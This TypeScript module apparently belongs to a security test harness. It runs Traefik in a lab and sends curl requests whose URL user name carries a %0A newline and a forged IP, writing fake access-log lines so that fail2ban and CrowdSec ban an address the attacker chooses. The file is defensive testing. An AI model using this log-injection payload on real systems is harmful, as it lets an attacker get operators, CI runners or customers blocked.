/**
 * The access log the host agents ban on: a client of the application's Traefik writes its own log lines and has
 * fail2ban and CrowdSec ban an address of its choosing (an operator's, the CI runner's, a customer's NAT).
 *
 * For real: the release of Traefik the application runs (`ctx.judges.traefik`), in the host's namespace on its
 * public address (as a published port with Docker's NAT keeps the peer address), started with the flags the docs
 * give for these settings (security/traefikAccessLog.ts), routing `/api/` to the backend stand-in through a router
 * named like the application's; the attacker on the internet sends requests whose URL carries a user name with
 * `%0A` and a fake line; the log is then read by the deployed fail2ban (0.11.2, the rendered `api-abuse` filter)
 * and by CrowdSec (the rendered parsers with the hub's Traefik parser and HTTP scenarios).
 */
import { execFile } from "child_process";
import * as fs from "fs";
import * as path from "path";
import { promisify } from "util";
import YAML from "yaml";
import { traefikAccessLogFlags } from "../../../security/traefikAccessLog";
import { startProcess } from "../../processes";
import type { AttackContext } from "../context";
import { notOk, ok, type Attempt, type AttemptResult } from "./types";

const run = promisify(execFile);

/** The address the attacker wants banned (TEST-NET-2: nobody's). */
export const FORGED = "198.51.100.9";
/** Requests sent: over the `api-abuse` jail's 100 per minute, as the issue measured. */
const REQUESTS = 120;
const PORT = 8088;

async function sendForged(ctx: AttackContext, count: number): Promise<void> {
  const target = `http://x%0A${FORGED}%20-%20y@api.koprogo.test/api/v1/probe`;
  const url = `http://${ctx.lab.net.publicAddress}:${PORT}/`;
  // One curl, one kept-alive connection, `count` requests whose request line is the absolute URL above.
  await run(
    "ip",
    [
      "netns",
      "exec",
      ctx.lab.net.outside,
      "curl",
      "-s",
      "-o",
      "/dev/null",
      "--max-time",
      "60",
      "--request-target",
      target,
      ...Array.from({ length: count }, () => url),
    ],
    { timeout: 90_000 },
  );
}

async function traefikForgery(ctx: AttackContext): Promise<AttemptResult> {
  const binary = ctx.judges.traefik;
  if (!binary) throw new Error("no Traefik binary here (npm run fetch-tools builds the application's release)");
  const dir = path.join(ctx.workDir, "traefik");
  fs.mkdirSync(dir, { recursive: true });
  const log = path.join(dir, "access.log");
  const backend = ctx.lab.labContainer(ctx.settings.targets.api.address.split(":")[0]);
  const backendAddress = Object.values(backend.addresses)[0];
  fs.writeFileSync(
    path.join(dir, "dynamic.yml"),
    YAML.stringify({
      http: {
        routers: {
          "koprogo-backend": { rule: "PathPrefix(`/api/`)", service: "koprogo-backend", entryPoints: ["web"] },
        },
        services: {
          "koprogo-backend": {
            loadBalancer: {
              servers: [{ url: `http://${backendAddress}:${ctx.settings.targets.api.address.split(":")[1]}` }],
            },
          },
        },
      },
    }),
  );
  // The docs' flags for these settings, the log path moved into the lab.
  const flags = traefikAccessLogFlags(ctx.settings).map((f) =>
    f.startsWith("--accesslog.filepath=") ? `--accesslog.filepath=${log}` : f,
  );
  const traefik = startProcess({
    name: "traefik",
    command: binary,
    args: [
      `--entrypoints.web.address=${ctx.lab.net.publicAddress}:${PORT}`,
      `--providers.file.filename=${path.join(dir, "dynamic.yml")}`,
      "--log.level=ERROR",
      ...flags,
    ],
    netns: ctx.lab.net.host,
    logDir: ctx.lab.logDir,
  });
  try {
    // Up once a request through the router is logged.
    for (let i = 0; i < 100 && !(fs.existsSync(log) && fs.readFileSync(log, "utf8").includes("probe0")); i++) {
      await run("ip", [
        "netns",
        "exec",
        ctx.lab.net.outside,
        "curl",
        "-s",
        "-o",
        "/dev/null",
        "--max-time",
        "2",
        `http://${ctx.lab.net.publicAddress}:${PORT}/api/v1/probe0`,
      ]).catch(() => undefined);
      await new Promise((r) => setTimeout(r, 300));
    }
    fs.writeFileSync(log, "");
    await sendForged(ctx, REQUESTS);
    await new Promise((r) => setTimeout(r, 500));
  } finally {
    await traefik.stop(3000);
  }
  const text = fs.readFileSync(log, "utf8");
  const lines = text.split("\n").filter(Boolean).length;
  const [fail2ban, crowdsec] = await Promise.all([ctx.judges.fail2banApiAbuse(log), ctx.judges.crowdsecHttp(log)]);
  const count = (ips: readonly string[], ip: string) => ips.filter((x) => x === ip).length;
  const attacker = ctx.lab.net.outsideAddress;
  const format = ctx.settings.security.logs.traefikAccessFormat;
  return {
    succeeded: count(fail2ban, FORGED) > 0 || count(crowdsec, FORGED) > 0,
    detail: `${REQUESTS} requests with %0A in the URL's user name; Traefik (${format}) wrote ${lines} lines; fail2ban 0.11.2 api-abuse counted ${FORGED} ${count(fail2ban, FORGED)} times (limit ${ctx.settings.security.fail2ban.jails.apiAbuse.maxRetry}/${ctx.settings.security.fail2ban.jails.apiAbuse.findTime}), CrowdSec's HTTP scenarios got ${count(crowdsec, FORGED)} events of it`,
    harness:
      count(fail2ban, attacker) >= REQUESTS && count(crowdsec, attacker) > 0
        ? ok(
            `the real peer ${attacker} counted ${count(fail2ban, attacker)} times by fail2ban and ${count(crowdsec, attacker)} by CrowdSec: it is the one banned`,
          )
        : notOk(
            `the real peer ${attacker}: fail2ban ${count(fail2ban, attacker)}, CrowdSec ${count(crowdsec, attacker)} (the jail or the parser does not read this log)`,
          ),
  };
}

export const ACCESS_LOG_ATTEMPTS: readonly Attempt[] = [
  {
    id: "traefik-log-forgery",
    title: "have fail2ban and CrowdSec ban an address of the attacker's choosing through Traefik's access log",
    from: "the internet",
    mode: "network",
    phase: 2,
    run: traefikForgery,
  },
];
